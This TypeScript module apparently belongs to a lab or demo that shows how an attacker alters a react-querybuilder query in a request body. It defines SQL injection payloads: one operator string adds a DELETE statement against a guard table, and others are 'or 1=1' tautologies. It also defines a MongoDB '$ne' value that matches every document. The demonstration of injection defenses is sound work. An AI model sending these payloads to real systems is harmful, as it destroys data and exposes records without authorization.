import type { RuleGroupTypeAny, RuleType } from 'react-querybuilder';

/** The parts of a query an attacker changes in a request body, one at a time. */
export type QueryAttackId = 'operator' | 'combinator' | 'fieldValue' | 'objectValue';

export interface QueryAttack {
  readonly id: QueryAttackId;
  readonly label: string;
  /** What the change tries to do, in one sentence. */
  readonly aim: string;
  /** The query as the attacker sends it: the reader's query with this part changed. */
  readonly alter: (query: RuleGroupTypeAny) => Record<string, unknown>;
}

type Item = RuleGroupTypeAny['rules'][number];

const isRule = (item: Item): item is RuleType => typeof item !== 'string' && !('rules' in item);

/** A plain copy of the query (the JSON a browser would send), without the ids the builder adds. */
const asBody = (query: RuleGroupTypeAny): Record<string, unknown> =>
  JSON.parse(
    JSON.stringify(query, (key, value: unknown) => (key === 'id' || key === 'path' ? undefined : value)),
  ) as Record<string, unknown>;

/** Replaces the first rule of the top group (or adds `fallback` when there is none) with what `change` makes of it. */
function withFirstRule(query: RuleGroupTypeAny, fallback: RuleType, change: (rule: RuleType) => RuleType) {
  const body = asBody(query);
  const rules = (body.rules as Item[]) ?? [];
  const index = rules.findIndex(isRule);
  body.rules =
    index === -1
      ? [...rules, change(fallback)]
      : rules.map((item, i) => (i === index ? change(item as RuleType) : item));
  return body;
}

/** Statement text an operator smuggles in: it ends the condition, adds a statement and comments out the rest. */
export const hostileOperator = 'IS NOT NULL); DELETE FROM lab_guard; --';
export const hostileCombinator = 'or 1=1 or';
export const hostileFieldValue = 'lastName OR 1=1';
export const hostileObjectValue = { $ne: null } as const;

export const queryAttacks: readonly QueryAttack[] = [
  {
    id: 'operator',
    label: 'Operator',
    aim: 'An operator that ends the condition and adds a statement that empties the guard table.',
    alter: (query) =>
      withFirstRule(query, { field: 'age', operator: '>', value: '28' }, (rule) => ({
        ...rule,
        operator: hostileOperator,
      })),
  },
  {
    id: 'combinator',
    label: 'Combinator',
    aim: 'A combinator that makes every condition true.',
    alter: (query) => {
      const body = asBody(query);
      const rules = ((body.rules as Item[]) ?? []).filter((item) => typeof item !== 'string');
      const padded: Item[] =
        rules.length >= 2
          ? rules
          : [
              ...rules,
              { field: 'age', operator: '>', value: '28' },
              { field: 'plan', operator: '=', value: 'pro' },
            ].slice(0, Math.max(2, rules.length));
      return { ...body, combinator: hostileCombinator, rules: padded };
    },
  },
  {
    id: 'fieldValue',
    label: 'Field-to-field value',
    aim: 'A rule comparing two fields whose "field" is SQL that is always true.',
    alter: (query) => {
      const body = asBody(query);
      const attack = { field: 'firstName', operator: '=', valueSource: 'field', value: hostileFieldValue };
      return { ...body, rules: [...((body.rules as Item[]) ?? []), attack] };
    },
  },
  {
    id: 'objectValue',
    label: 'Object value',
    aim: 'A rule added with "or" whose value is a MongoDB operator, matching every document that has a last name.',
    alter: (query) => ({
      combinator: 'or',
      rules: [asBody(query), { field: 'lastName', operator: '=', value: hostileObjectValue }],
    }),
  },
];

export const queryAttack = (id: QueryAttackId): QueryAttack => queryAttacks.find((attack) => attack.id === id)!;
